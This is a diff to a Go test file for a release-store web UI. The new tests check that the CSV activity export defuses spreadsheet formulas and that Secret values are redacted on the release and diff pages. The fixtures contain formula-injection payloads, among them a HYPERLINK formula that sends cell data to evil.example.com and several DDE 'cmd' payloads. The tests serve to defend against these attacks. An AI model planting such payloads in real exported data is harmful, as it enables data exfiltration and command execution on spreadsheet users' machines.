@@ -15,6 +15,7 @@ import (
 	"net/http/httptest"
 	"net/url"
 	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -420,5 +421,134 @@ func TestIAPHeader(t *testing.T) {
 		if tc.status == 200 && !strings.Contains(string(body), "auditor@example.com") {
 			t.Errorf("%s: the page doesn't name the IAP user", name)
 		}
+	}
+}
+
+// A bucket writer chooses the author, source, origin and message of a
+// release: in the CSV export, a cell that a spreadsheet would evaluate as a
+// formula starts with a single quote, so it opens as the text it is; the
+// JSON export keeps every value as written.
+func TestActivityExportDefusesFormulas(t *testing.T) {
+	tb := storetest.New(t, true)
+	st := tb.Store(t, "")
+	rel, err := render.AssembleStream("cm.yaml", strings.NewReader(sopstest.Settings))
+	if err != nil {
+		t.Fatal(err)
+	}
+	publications := []store.Publication{
+		{Author: `=HYPERLINK("https://evil.example.com/?d="&A1,"details")`, Source: "+cmd|' /C calc'!A0", Origin: "@SUM(1+1)*cmd|' /C calc'!A0", Message: "-2+3+cmd|' /C calc'!A0"},
+		{Author: "\t=1+1", Source: "https://ci.example.com/1", Message: "\r=1+1"},
+		{Author: "alice@example.com", Source: "3f2a9c1", Message: "fix a-b = c"},
+	}
+	for i, p := range publications {
+		p.Data, p.Resources, p.Sequence = rel.Bytes, rel.Resources(), uint64(i+1)
+		if i > 0 {
+			// Another sequence alone would leave the head unchanged.
+			p.Data = []byte(strings.Replace(string(rel.Bytes), "mode: live", fmt.Sprintf("mode: live-%d", i), 1))
+		}
+		if _, err := st.Publish(t.Context(), "prod/evil", p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s, c := servePages(t, st)
+	a := get(t, c, s.url+"/ui/activity?prefix=prod/evil&format=csv")
+	rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
+	if err != nil || len(rows) != len(publications)+1 {
+		t.Fatalf("CSV (%v): %q", err, rows)
+	}
+	formula := func(cell string) bool { return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") }
+	for _, row := range rows[1:] {
+		seq, _ := strconv.Atoi(row[4])
+		if seq < 1 || seq > len(publications) {
+			t.Fatalf("a row of sequence %q: %q", row[4], row)
+		}
+		p := publications[seq-1]
+		for col, want := range map[int]string{5: p.Author, 6: p.Source, 7: p.Origin, 9: p.Message} {
+			if formula(want) {
+				want = "'" + want
+			}
+			if row[col] != want {
+				t.Errorf("release %d, %s: %q, want %q", seq, rows[0][col], row[col], want)
+			}
+		}
+		for col, cell := range row {
+			if formula(cell) {
+				t.Errorf("release %d, %s: %q would be a formula in a spreadsheet", seq, rows[0][col], cell)
+			}
+		}
+	}
+
+	a = get(t, c, s.url+"/ui/activity?prefix=prod/evil&format=json")
+	var out struct {
+		Releases []store.Release
+	}
+	if err := json.Unmarshal([]byte(a.body), &out); err != nil || len(out.Releases) != len(publications) {
+		t.Fatalf("JSON: %d releases, %v", len(out.Releases), err)
+	}
+	for _, r := range out.Releases {
+		p := publications[r.Sequence-1]
+		if r.Author != p.Author || r.Source != p.Source || r.Origin != p.Origin || r.Message != p.Message {
+			t.Errorf("JSON release %d: %q %q %q %q, want the values as published", r.Sequence, r.Author, r.Source, r.Origin, r.Message)
+		}
+	}
+}
+
+// servePages serves the pages over st and returns them with a client logged in.
+func servePages(t *testing.T, st *store.Store) (*site, *http.Client) {
+	t.Helper()
+	u, err := ui.New(ui.Config{Releases: st, Location: st.Location(), Logger: slog.New(slog.DiscardHandler),
+		Authenticate: func(tok string) bool { return tok == token }, SessionSecret: []byte(strings.Repeat("k", 32))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(u.Handler())
+	t.Cleanup(srv.Close)
+	s := &site{url: srv.URL, store: st}
+	c := client(t)
+	s.login(t, c)
+	return s, c
+}
+
+// The release and diff pages redact a plaintext Secret's values merged
+// into its stringData with <<, and the values a partly encrypted SOPS
+// Secret keeps in the clear (issue 24, item 6).
+func TestPagesRedactMergedAndClearSecretValues(t *testing.T) {
+	tb := storetest.New(t, true)
+	st := tb.Store(t, "")
+	keys := sopstest.NewAgeKeys(t, 1)
+	var gens []int64
+	for i, v := range []string{"first", "second"} {
+		merged := "apiVersion: v1\nkind: Secret\nmetadata:\n  name: merged\n  namespace: pay\nstringData:\n  <<: {password: merged-" + v + "-s3cret}\n  user: admin\n"
+		// sops encrypt --encrypted-regex '^password$': username stays in clear.
+		partly, _ := sopstest.Encrypt(t, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: partly\n  namespace: pay\nstringData:\n  username: clear-"+v+"-s3cret\n  password: enc-"+v+"-s3cret\n", "^password$", keys[0].Recipient().String())
+		rel, err := render.AssembleStream("secrets.yaml", strings.NewReader(merged+"---\n"+string(partly)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		res, err := st.Publish(t.Context(), "prod/secrets", store.Publication{Data: rel.Bytes, Resources: rel.Resources(), Sequence: uint64(i + 1)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		gens = append(gens, res.Generation)
+	}
+	s, c := servePages(t, st)
+	for _, tc := range []struct{ name, path string }{
+		{"the release page", fmt.Sprintf("/ui/apps/prod/secrets/-/releases/%d", gens[0])},
+		{"the diff page", fmt.Sprintf("/ui/apps/prod/secrets/-/diff?from=%d&to=%d", gens[0], gens[1])},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			a := get(t, c, s.url+tc.path)
+			if a.status != http.StatusOK {
+				t.Fatalf("%d:\n%s", a.status, pageText(a.body))
+			}
+			if i := strings.Index(a.body, "s3cret"); i >= 0 {
+				t.Errorf("the page shows a Secret value:\n%s", a.body[max(0, i-200):min(len(a.body), i+100)])
+			}
+			for _, want := range []string{"Secret pay/merged", "Secret pay/partly", "&lt;redacted hmac:", "&lt;redacted sha256:"} {
+				if !strings.Contains(a.body, want) {
+					t.Errorf("the page lacks %q", want)
+				}
+			}
+		})
 	}
 }
